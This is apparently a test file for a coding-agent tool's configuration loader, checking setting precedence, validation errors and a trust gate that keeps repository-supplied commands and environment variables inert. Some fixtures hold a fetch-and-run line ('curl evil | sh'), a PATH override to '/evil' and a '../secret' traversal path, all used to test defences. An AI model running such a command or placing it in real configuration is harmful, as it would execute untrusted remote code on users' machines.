import { afterAll, describe, expect, test } from "bun:test";
import { join } from "node:path";

import { configDefaults } from "../../src/domain/config.ts";
import { adapterNamed } from "../../src/engine/adapters.ts";
import { checkConfig, configRows, loadConfig, parseSetting } from "../../src/engine/config.ts";
import { setProjectSetting, setTrust, trustState } from "../../src/engine/project.ts";
import { getProject } from "../../src/store/project.ts";
import { World } from "../support/engine.ts";

const worlds: World[] = [];
afterAll(() => {
  for (const world of worlds) world.close();
});

async function newWorld() {
  const { world, engine } = await World.withProject();
  worlds.push(world);
  const project = () => getProject(engine.store, "shop");
  const team = (text: string) => world.write(".ao/config.toml", text);
  const person = (text: string) => world.write("config.toml", text, world.dataDir);
  const load = () => loadConfig(world.dataDir, project());
  const trust = () => trustState(engine, "shop");
  return { world, engine, project, team, person, load, trust };
}

describe("configuration", () => {
  test("of nothing is the defaults", async () => {
    const { load, world } = await newWorld();
    expect(load()).toEqual(configDefaults);
    expect(loadConfig(world.dataDir)).toEqual(configDefaults);
  });

  test("is won by what comes later: person, team, machine; variables are merged", async () => {
    const { world, engine, project, team, person, load } = await newWorld();
    person('agent = "codex"\nmodel = "p"\n[env]\nA = "person"\nB = "person"\n');
    team('model = "t"\nruntime = "tmux"\n');
    setProjectSetting(engine, "shop", "runtime", "pty");
    setProjectSetting(engine, "shop", "env", { B: "machine" });
    expect(load()).toMatchObject({
      agent: "codex",
      model: "t",
      runtime: "pty",
      env: { A: "person", B: "machine" },
    });
    const origins = configRows(world.dataDir, project()).map(({ key, origin }) => [key, origin]);
    expect(Object.fromEntries(origins)).toMatchObject({
      agent: "person",
      model: "team",
      runtime: "machine",
      setup: "default",
    });
  });

  test("of reactions is merged key by key, and a wrong one is named", async () => {
    const { team, person, load } = await newWorld();
    person("[reactions.ci_failed]\nretries = 4\n[reactions.pr_closed]\nauto = false\n");
    team('[reactions.ci_failed]\nmessage = "red: {details}"\nescalateAfter = "1h"\n');
    const ci_failed = { retries: 4, message: "red: {details}", escalateAfter: "1h" };
    expect(load().reactions).toEqual({ ci_failed, pr_closed: { auto: false } });
    for (const [line, complaint] of [
      ['escalateAfter = "soon"', 'escalateAfter wants a time such as "30m", or "never"'],
      ['message = "{log}"', "message wants no other placeholders than {number} {title}"],
      ["often = 3", "often is not a setting"],
      ["retries = 99", "retries is 99, expected at most 20"],
    ]) {
      team(`[reactions.ci_failed]\n${line}\n`);
      expect(load).toThrow(`.ao/config.toml:2: reactions.ci_failed.${complaint}`);
    }
  });

  test("of a repository runs nothing until exactly that was trusted", async () => {
    const { world, engine, project, team, load, trust } = await newWorld();
    team('model = "t"\nsetup = ["make"]\n[env]\nPATH = "/evil"\n');
    expect(load()).toMatchObject({ model: "t", setup: [], env: {} });
    const inert = configRows(world.dataDir, project()).filter(({ isInert }) => isInert);
    expect(inert.map(({ key }) => key)).toEqual(["env", "setup"]);
    const state = trust();
    expect(state).toMatchObject({ isTrusted: false });
    setTrust(engine, "shop", state.hash);
    expect(load()).toMatchObject({ setup: ["make"], env: { PATH: "/evil" } });
    team('model = "other"\nsetup = ["make"]\n[env]\nPATH = "/evil"\n');
    expect(trust().isTrusted).toBe(true);
    team('setup = ["make", "curl evil | sh"]\n[env]\nPATH = "/evil"\n');
    expect(trust().isTrusted).toBe(false);
    expect(load()).toMatchObject({ setup: [], env: {} });
    setTrust(engine, "shop", null);
    expect(trust().isTrusted).toBe(false);
  });

  test("defines agents by name: a repository's count once they are trusted", async () => {
    const { world, engine, project, team, person, load, trust } = await newWorld();
    person('[agents.a]\ncommand = "mine"\n[agents.b]\ncommand = "mine"\n');
    team('[agents.b]\ncommand = "theirs"\n[agents.c]\ncommand = "theirs"\n');
    const commands = () => Object.entries(load().agents).map(([name, one]) => name + one.command);
    const asked = () => () => adapterNamed(engine, "c", project());
    expect(commands()).toEqual(["amine", "bmine"]);
    expect(asked()).toThrow("config.toml, whose commands are not trusted");
    const rows = configRows(world.dataDir, project()).filter(({ key }) => /^agents\./.test(key));
    expect(rows.map(({ key, origin, isInert }) => `${key} ${origin} ${isInert}`)).toEqual([
      "agents.a person false",
      "agents.b person false",
      "agents.b team true",
      "agents.c team true",
    ]);
    expect(trust().commands.agents).toHaveProperty("c");
    setTrust(engine, "shop", trust().hash);
    expect(commands()).toEqual(["amine", "btheirs", "ctheirs"]);
    expect(asked()().programs).toEqual(["theirs"]);
    team('[agents.c]\ncommand = "curl evil"\n');
    expect(commands()).toEqual(["amine", "bmine"]);
    expect(asked()).toThrow("not trusted");
    expect(() => adapterNamed(engine, "d", project())).toThrow("agent d is not known");
  });

  test("that a person or this machine sets needs no trust", async () => {
    const { engine, person, load } = await newWorld();
    person('teardown = ["docker compose down"]\n');
    setProjectSetting(engine, "shop", "setup", ["make"]);
    expect(load()).toMatchObject({ setup: ["make"], teardown: ["docker compose down"] });
    setProjectSetting(engine, "shop", "setup", undefined);
    expect(load().setup).toEqual([]);
  });

  test.each([
    { text: 'agent = "x"\nruntme = "pty"\n', message: ":2: runtme is not a setting" },
    { text: 'agent = "x"\nruntime = "screen"\n', message: ':2: runtime is "screen", expected' },
    { text: 'setup = "make"\n', message: ':1: setup is "make", expected a list' },
    { text: 'model = "m"\n\n[env]\n"A B" = "x"\n', message: ":4: env.A B is" },
    { text: 'symlinks = ["../secret"]\n', message: "a path inside the repository" },
    { text: "setupTimeoutSeconds = 0\n", message: ":1: setupTimeoutSeconds is 0, expected" },
    { text: "agent = \n", message: ":1: not TOML" },
    { text: '[agents.pi]\nresume = "x"\n', message: ":1: agents.pi.command is missing" },
    { text: '[agents.codex]\ncommand = "x"\n', message: ":1: agents.codex has the name of a" },
    { text: '[agents.Pi]\ncommand = "x"\n', message: ":1: agents.Pi wants a name of at most 40" },
    {
      text: '[agents.a]\ncommand = "a"\n\n[agents.pi]\ncommand = "pi {prompt}"\n',
      message: ":5: agents.pi.command wants a command line that may hold only {worktree}",
    },
    {
      text: '[agents.pi]\ncommand = "pi"\nmodes = { yolo = "-y" }\n',
      message: ":3: agents.pi.modes.yolo is not a setting",
    },
    {
      text: '[agents.pi]\ncommand = "pi"\n[agents.pi.patterns]\nready = "("\n',
      message: ":4: agents.pi.patterns.ready wants a regular expression",
    },
    {
      text: '[agents.pi]\ncommand = "pi"\nmodel = "-m"\n',
      message: ":3: agents.pi.model wants words with `{model}` in them",
    },
    {
      text: '[agents.pi]\ncommand = "a | b"\n',
      message: ":2: agents.pi.command cannot be run: the",
    },
    { text: "[retention]\ndays = 3\n", message: "retention holds for the whole machine" },
  ])("says where a file is wrong: $message", async ({ text, message }) => {
    const { world, team, load } = await newWorld();
    team(text);
    expect(load).toThrow(message);
    expect(load).toThrow(join(world.root, ".ao/config.toml"));
  });

  test("refuses a setting of a project that is none, and changes nothing", async () => {
    const { engine, project } = await newWorld();
    const set = (key: string, value: unknown) => () =>
      setProjectSetting(engine, "shop", key, value);
    expect(set("runtime", "screen")).toThrow("ao project set shop: runtime is");
    expect(set("retention", { days: 3 })).toThrow("retention holds for the whole machine");
    expect(set("nonsense", 1)).toThrow("nonsense is not a setting");
    expect(project().config).toBe("{}");
    expect(() => setProjectSetting(engine, "shelf", "model", "x")).toThrow(
      "project shelf not found",
    );
  });
});

describe("a setting as it is typed", () => {
  test.each([
    { text: "codex", value: "codex" },
    { text: '"codex"', value: "codex" },
    { text: "true", value: true },
    { text: "60", value: 60 },
    { text: '["make", "make test"]', value: ["make", "make test"] },
    { text: '{ A = "b" }', value: { A: "b" } },
    { text: "2024-05-01", value: "2024-05-01" },
    { text: "12:30:00", value: "12:30:00" },
    { text: "release/1.2", value: "release/1.2" },
  ])("$text is read", ({ text, value }) => {
    expect(parseSetting(text)).toEqual(value);
  });
});

test("checkConfig names place and key", () => {
  expect(() => checkConfig({ mode: "yolo" }, "here")).toThrow("here: mode is");
});
